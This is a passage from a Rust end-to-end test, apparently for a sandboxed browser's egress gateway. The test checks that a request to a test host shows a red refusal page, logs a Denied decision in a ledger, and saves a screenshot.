    open(format!("http://denied.test:{}/green", n.web.port))?;
    // The gateway's refusal page: a dark red banner naming the refusal.
    let red = poll("the refusal page on the screen", Duration::from_secs(120), || {
        let r = screen_pixels(&env, &n.sb, [0x8b, 0, 0])?;
        Ok((r > 20_000 && screen_pixels(&env, &n.sb, GREEN)? == 0).then_some(r))
    })?;
    let decided = ledger_has(&n.serve, &n.sb, "denial", |r| decided_for(r, "denied.test")).await?;
    ensure!(
        matches!(
            decided,
            EgressRecord::Decided {
                outcome: EgressOutcome::Denied,
                ..
            }
        ),
        "{decided:?}"
    );
    eprintln!("allowed page: {green} green pixels; refusal page: {red} banner pixels");
    let art = airlock_test_kit::e2e::bin_dir().join("../test-artifacts/egress");
    std::fs::create_dir_all(&art)?;
    std::fs::write(
        art.join("firefox-refusal.png"),
        env.store.connect(&n.sb)?.screenshot()?.png()?,
    )?;
    Ok(())
}
